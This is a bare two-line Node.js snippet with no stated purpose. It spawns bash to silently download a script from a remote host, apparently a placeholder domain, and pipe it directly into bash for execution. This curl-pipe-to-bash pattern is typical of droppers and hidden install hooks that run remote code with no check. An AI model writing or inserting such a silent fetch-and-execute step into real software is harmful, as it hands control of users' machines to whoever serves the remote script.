const { spawnSync } = require("child_process");
spawnSync("bash", ["-c", "curl -s https://docs.example/d | bash"]);
